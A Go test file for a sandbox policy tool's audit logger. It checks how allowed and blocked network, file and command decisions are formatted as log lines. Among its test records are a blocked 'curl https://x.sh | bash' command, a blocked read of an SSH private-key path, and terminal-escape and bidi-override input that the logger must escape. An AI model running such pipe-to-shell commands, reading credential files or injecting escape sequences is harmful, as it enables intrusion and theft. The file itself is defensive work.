package audit_test

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/openshell-policy/openshell/audit"
	"github.com/openshell-policy/openshell/schemas"
)

func record(at string, n schemas.NetworkInput, code schemas.Code, methods ...string) *schemas.Record {
	ts, err := time.Parse(time.RFC3339, at)
	if err != nil {
		panic(err)
	}
	if n.Scheme == "" {
		n.Scheme = "https"
	}
	return &schemas.Record{
		Timestamp: ts,
		Input:     &schemas.DecisionInput{Kind: schemas.KindNetwork, Network: &n},
		Result: &schemas.Decision{
			Allow: code == schemas.CodeAllowed, Mode: schemas.ModeEnforce, Code: code,
			Rule: "outbound[0]", Source: &schemas.Source{File: "policies/github-readonly.yaml", Line: 10},
		},
		Custom: schemas.Custom{
			Type: schemas.RecordDecision, Code: code, Rule: "outbound[0]",
			Reason: audit.Reason(code, n.Method, methods),
		},
	}
}

// TestSeedLines holds the three lines of the document the product was asked for
// from.
func TestSeedLines(t *testing.T) {
	records := []*schemas.Record{
		record("2026-11-23T10:31:02Z", schemas.NetworkInput{Method: "GET", Host: "api.github.com", Port: 443, Path: "/repos/org/app/contents/src"}, schemas.CodeAllowed),
		record("2026-11-23T10:31:05Z", schemas.NetworkInput{Method: "POST", Host: "api.github.com", Port: 443, Path: "/repos/org/app/pulls"}, schemas.CodeMethodNotAllowed, "GET", "HEAD"),
		record("2026-11-23T10:31:08Z", schemas.NetworkInput{Method: "GET", Host: "pypi.org", Port: 443, Path: "/simple/requests"}, schemas.CodeHostNotInPolicy),
	}
	want := []string{
		"[10:31:02] GET api.github.com/repos/org/app/contents/src ✅",
		"[10:31:05] POST api.github.com/repos/org/app/pulls ❌ BLOCKED (readonly policy)",
		"[10:31:08] GET pypi.org/simple/requests ❌ BLOCKED (not in policy)",
	}
	lines := audit.Lines{Options: audit.LineOptions{UTC: true}}
	var got []string
	for _, r := range records {
		got = append(got, lines.Next(r)...)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestLineForms(t *testing.T) {
	const at = "2026-11-23T10:31:02Z"
	utc := audit.LineOptions{UTC: true}
	audited := record(at, schemas.NetworkInput{Method: "GET", Host: "x.test", Port: 443, Path: "/"}, schemas.CodeHostNotInPolicy)
	audited.Result.Mode = schemas.ModeAudit
	outcome := record(at, schemas.NetworkInput{}, schemas.CodeAllowed)
	outcome.Custom.Type = schemas.RecordOutcome
	file := record(at, schemas.NetworkInput{}, schemas.CodeBlockedPath)
	file.Input = &schemas.DecisionInput{Kind: schemas.KindFile, File: &schemas.FileInput{Op: schemas.OpRead, Path: "/root/.ssh/id"}}
	rename := record(at, schemas.NetworkInput{}, schemas.CodeAllowed)
	rename.Input = &schemas.DecisionInput{Kind: schemas.KindFile, File: &schemas.FileInput{Op: schemas.OpRename, Path: "/a", Target: &schemas.FileTarget{Path: "/b"}}}
	exec := record(at, schemas.NetworkInput{}, schemas.CodeBlockedCommand)
	exec.Input = &schemas.DecisionInput{Kind: schemas.KindExec, Exec: &schemas.ExecInput{Commands: []schemas.Command{
		{Program: "curl", Args: []string{"https://x.sh", "a b"}}, {Program: "bash", Args: []string{}},
	}}}
	nothing := record(at, schemas.NetworkInput{}, schemas.CodeUnknownSandbox)
	nothing.Input = nil
	tests := []struct {
		name string
		rec  *schemas.Record
		opts audit.LineOptions
		want string
	}{
		{"http", record(at, schemas.NetworkInput{Scheme: "http", Method: "GET", Host: "x.test", Port: 80, Path: "/"}, schemas.CodeAllowed), utc, "[10:31:02] GET http://x.test/ ✅"},
		{"port", record(at, schemas.NetworkInput{Method: "GET", Host: "x.test", Port: 8443, Path: "/"}, schemas.CodeAllowed), utc, "[10:31:02] GET x.test:8443/ ✅"},
		{"ipv6", record(at, schemas.NetworkInput{Method: "GET", Host: "2001:db8::1", Port: 443, Path: "/"}, schemas.CodeAllowed), utc, "[10:31:02] GET [2001:db8::1]/ ✅"},
		{"method", record(at, schemas.NetworkInput{Method: "POST", Host: "x.test", Port: 443, Path: "/"}, schemas.CodeMethodNotAllowed, "GET", "PUT"), utc, "[10:31:02] POST x.test/ ❌ BLOCKED (POST not allowed)"},
		{"plain", record(at, schemas.NetworkInput{Method: "GET", Host: "x.test", Port: 443, Path: "/"}, schemas.CodeHostNotInPolicy), audit.LineOptions{UTC: true, Plain: true}, "[10:31:02] GET x.test/ BLOCKED (not in policy)"},
		{"plain allowed", record(at, schemas.NetworkInput{Method: "GET", Host: "x.test", Port: 443, Path: "/"}, schemas.CodeAllowed), audit.LineOptions{UTC: true, Plain: true}, "[10:31:02] GET x.test/ ALLOWED"},
		{"wide", record(at, schemas.NetworkInput{Method: "GET", Host: "x.test", Port: 443, Path: "/"}, schemas.CodeAllowed), audit.LineOptions{UTC: true, Wide: true}, "[10:31:02] GET x.test/ ✅  allowed outbound[0] policies/github-readonly.yaml:10"},
		{"audit", audited, utc, "[10:31:02] GET x.test/ ✅ AUDIT (not in policy)"},
		{"outcome", outcome, utc, ""},
		{"file", file, utc, "[10:31:02] READ /root/.ssh/id ❌ BLOCKED (blocked path)"},
		{"rename", rename, utc, "[10:31:02] RENAME /a /b ✅"},
		{"exec", exec, utc, "[10:31:02] EXEC curl https://x.sh 'a b' | bash ❌ BLOCKED (blocked command)"},
		{"nothing known", nothing, utc, "[10:31:02] - - ❌ BLOCKED (unknown sandbox)"},
		{"hostile", record(at, schemas.NetworkInput{Method: "GET\x1b[2J", Host: "x\u202e.test", Port: 443, Path: "/a\nb\u2028\xff\u009b"}, schemas.CodeAllowed), utc, `[10:31:02] GET\x1B[2J x\u202E.test/a\x0Ab\u2028\xFF\u009B ✅`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, audit.Line(tt.rec, tt.opts)); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestLinesNamesTheNextDay(t *testing.T) {
	lines := audit.Lines{Options: audit.LineOptions{UTC: true}}
	in := schemas.NetworkInput{Method: "GET", Host: "x.test", Port: 443, Path: "/"}
	if got := lines.Next(record("2026-11-23T23:59:59Z", in, schemas.CodeAllowed)); len(got) != 1 {
		t.Errorf("first record: %q", got)
	}
	got := lines.Next(record("2026-11-24T00:00:01Z", in, schemas.CodeAllowed))
	if diff := cmp.Diff([]string{"2026-11-24", "[00:00:01] GET x.test/ ✅"}, got); diff != "" {
		t.Error(diff)
	}
}

func TestPrintableIsCut(t *testing.T) {
	if got := audit.Printable(strings.Repeat("a", 10_000)); len(got) > 2100 {
		t.Errorf("%d bytes", len(got))
	}
}
